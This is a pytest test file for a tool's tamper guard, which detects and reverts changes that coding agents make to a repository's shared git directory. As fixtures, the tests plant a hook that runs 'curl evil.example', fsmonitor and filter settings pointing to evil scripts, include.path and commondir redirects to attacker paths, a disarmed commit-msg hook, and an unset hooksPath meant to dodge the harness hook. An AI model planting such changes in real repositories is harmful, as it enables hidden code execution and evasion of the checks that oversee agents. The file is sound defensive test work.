"""The tamper guard: what an agent plants in the shared git directory is reported and undone."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from magi.git.repo import Git
from magi.git.worktree_guard import GuardSnapshot, restore, take

HOOK = "#!/bin/sh\nexit 0\n"
pytestmark = pytest.mark.usefixtures("isolated_git")


def agent_git(cwd: Path, *args: str) -> str:
    """git as an agent runs it, in its own worktree."""
    res = subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True)
    return res.stdout


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    path = tmp_path / "repo"
    agent_git(tmp_path, "init", "-q", "-b", "main", str(path))
    (path / "README.md").write_text("hello\n")
    agent_git(path, "add", "-A")
    agent_git(path, "commit", "-q", "-m", "initial")
    (path / ".git" / "info").mkdir(exist_ok=True)
    (path / ".git" / "info" / "attributes").write_text("*.png binary\n")
    hook = path / ".git" / "hooks" / "pre-commit"
    hook.write_text(HOOK)
    hook.chmod(0o755)
    return path


@pytest.fixture
def git(repo: Path, tmp_path: Path) -> Git:
    return Git(repo, hooks_dir=tmp_path / "magi-hooks")


@pytest.fixture
def worktree(repo: Path, git: Git, tmp_path: Path) -> Path:
    """A candidate worktree with magi's commit-msg hook installed, as prep leaves it."""
    wt = tmp_path / "wt-A"
    git.worktree_add(wt, start="main", branch="magi/r1/A")
    assert git.hooks_dir is not None
    git.install_commit_msg_hook(wt, git.hooks_dir, HOOK)
    return wt


def test_untouched_repository_is_clean_without_running_git(
    git: Git, worktree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The per-turn fast path: nothing changed, nothing reported, and git is never spawned."""
    snap = take(git, [git.root, worktree])
    agent_git(worktree, "commit", "-q", "--allow-empty", "-m", "ordinary work")

    def no_git(*args: object, **kwargs: object) -> str:
        raise AssertionError("the clean path must not run git")

    monkeypatch.setattr(Git, "run", no_git)
    assert restore(git, snap) == []
    assert GuardSnapshot.take(git, [worktree]) == snap


def test_planted_hook_config_key_and_attribute_are_reported_and_undone(
    repo: Path, git: Git, worktree: Path
) -> None:
    """The three classic plants, each named, each restored byte for byte."""
    common = repo / ".git"
    config_before = (common / "config").read_bytes()
    attributes_before = (common / "info" / "attributes").read_bytes()
    snap = take(git, [worktree])

    planted = common / "hooks" / "post-checkout"
    planted.write_text("#!/bin/sh\ncurl evil.example\n")
    planted.chmod(0o755)
    agent_git(worktree, "config", "core.fsmonitor", "/tmp/evil.sh")
    with (common / "info" / "attributes").open("a") as f:
        f.write("* filter=evil\n")

    violations = restore(git, snap)
    assert sorted(violations) == [
        "config changed: core.fsmonitor",
        "hooks/post-checkout added",
        "info/attributes changed",
    ]
    assert not planted.exists()
    assert (common / "config").read_bytes() == config_before
    assert (common / "info" / "attributes").read_bytes() == attributes_before
    assert restore(git, snap) == []  # restored means clean from then on


def test_removed_hook_comes_back_with_its_mode(repo: Path, git: Git) -> None:
    """A deleted hook is re-created executable, and a chmod alone is a violation too."""
    hook = repo / ".git" / "hooks" / "pre-commit"
    snap = take(git)
    hook.unlink()
    assert restore(git, snap) == ["hooks/pre-commit removed"]
    assert hook.read_text() == HOOK
    assert os.access(hook, os.X_OK)
    hook.chmod(0o644)
    assert restore(git, snap) == ["hooks/pre-commit mode changed"]
    assert os.access(hook, os.X_OK)


def test_config_changes_are_described_by_key(repo: Path, git: Git) -> None:
    """Added, changed and removed keys are each named; include.path is reported, not followed."""
    agent_git(repo, "config", "user.name", "Someone")
    snap = take(git)
    agent_git(repo, "config", "include.path", "../../evil.cfg")
    agent_git(repo, "config", "user.name", "Someone Else")
    agent_git(repo, "config", "--unset", "core.bare")
    assert sorted(restore(git, snap)) == [
        "config changed: core.bare",
        "config changed: include.path",
        "config changed: user.name",
    ]
    assert agent_git(repo, "config", "user.name").strip() == "Someone"


def test_unparseable_config_is_restored(repo: Path, git: Git) -> None:
    """A config git cannot parse is still a change, still restored, without crashing the guard."""
    before = (repo / ".git" / "config").read_bytes()
    snap = take(git)
    (repo / ".git" / "config").write_text("[core\n\tfsmonitor = /tmp/evil.sh\n")
    assert restore(git, snap) == ["config changed"]
    assert (repo / ".git" / "config").read_bytes() == before


def test_a_commondir_planted_in_the_repositorys_git_dir_is_removed(repo: Path, git: Git) -> None:
    """A seat that can write the shared git dir plants ``commondir`` there: git would then take
    a directory of the seat's choosing as the repository. Caught and removed."""
    snap = take(git)
    (repo / ".git" / "commondir").write_text("/tmp/attacker/.git\n")
    assert restore(git, snap) == ["commondir added"]
    assert not (repo / ".git" / "commondir").exists()


def test_worktree_hooks_path_tampering_is_restored(repo: Path, git: Git, worktree: Path) -> None:
    """Unsetting the per-worktree hooksPath (to dodge the trailer hook) is caught and undone."""
    snap = take(git, [worktree])
    agent_git(worktree, "config", "--worktree", "--unset", "core.hooksPath")
    assert restore(git, snap) == ["worktrees/wt-A/config.worktree changed: core.hookspath"]
    assert agent_git(worktree, "config", "core.hooksPath").strip() == str(git.hooks_dir)


def test_magi_hook_dir_and_worktree_link_are_watched(git: Git, worktree: Path) -> None:
    """Editing magi's own commit-msg hook, or repointing the worktree's .git file, is undone."""
    assert git.hooks_dir is not None
    snap = take(git, [worktree])
    (git.hooks_dir / "commit-msg").write_text("#!/bin/sh\nexit 0 # disarmed\n")
    dotgit = worktree / ".git"
    original = dotgit.read_text()
    dotgit.write_text("gitdir: /tmp/attacker/.git\n")
    assert sorted(restore(git, snap)) == [
        f"{git.hooks_dir / 'commit-msg'} changed",
        f"{dotgit} changed",
    ]
    assert (git.hooks_dir / "commit-msg").read_text() == HOOK
    assert dotgit.read_text() == original


def test_symlinks_are_replaced_never_written_through(repo: Path, git: Git, tmp_path: Path) -> None:
    """A hook swapped for a link, or hooks/ swapped for a linked directory, is put back in place."""
    outside = tmp_path / "outside.txt"
    outside.write_text("not magi's to overwrite\n")
    hook = repo / ".git" / "hooks" / "pre-commit"
    snap = take(git)
    hook.unlink()
    hook.symlink_to(outside)
    assert restore(git, snap) == ["hooks/pre-commit changed (symlink)"]
    assert not hook.is_symlink()
    assert hook.read_text() == HOOK
    assert outside.read_text() == "not magi's to overwrite\n"

    evil_dir = tmp_path / "evil-hooks"
    (repo / ".git" / "hooks").rename(evil_dir)
    (repo / ".git" / "hooks").symlink_to(evil_dir)
    (evil_dir / "post-checkout").write_text("#!/bin/sh\n")
    violations = restore(git, snap)
    assert "hooks added (symlink)" in violations
    assert "hooks/pre-commit removed" in violations
    assert not (repo / ".git" / "hooks").is_symlink()
    assert hook.read_text() == HOOK
    assert not (repo / ".git" / "hooks" / "post-checkout").exists()


def test_added_directories_are_removed(repo: Path, git: Git) -> None:
    """A nested directory of planted files goes away entirely."""
    snap = take(git)
    nested = repo / ".git" / "info" / "deep" / "er"
    nested.mkdir(parents=True)
    (nested / "sparse").write_text("x")
    assert restore(git, snap) == ["info/deep/er/sparse added"]
    assert not (repo / ".git" / "info" / "deep").exists()


def test_a_users_own_symlinked_hook_is_restored_as_a_link(repo: Path, git: Git) -> None:
    """A hook that was a symlink before the turn comes back as the same symlink."""
    hook = repo / ".git" / "hooks" / "pre-push"
    hook.symlink_to("../../scripts/pre-push")
    snap = take(git)
    hook.unlink()
    assert restore(git, snap) == ["hooks/pre-push removed"]
    assert hook.is_symlink()
    assert os.readlink(hook) == "../../scripts/pre-push"


def test_a_symlinked_worktree_git_dir_is_not_written_through(
    repo: Path, git: Git, worktree: Path, tmp_path: Path
) -> None:
    """The worktree's git dir swapped for a link: restoring never writes into the link target."""
    admin = repo.resolve() / ".git" / "worktrees" / "wt-A"
    snap = take(git, [worktree])
    decoy = tmp_path / "decoy"
    decoy.mkdir()
    (decoy / "config.worktree").write_text("[core]\n\thooksPath = /dev/null\n")
    admin.rename(tmp_path / "moved-admin")
    admin.symlink_to(decoy)
    violations = restore(git, snap)
    assert "worktrees/wt-A/config.worktree changed: core.hookspath" in violations
    assert (decoy / "config.worktree").read_text() == "[core]\n\thooksPath = /dev/null\n"
    assert not admin.is_symlink()
    assert (admin / "config.worktree").read_bytes() == snap.files[admin / "config.worktree"]
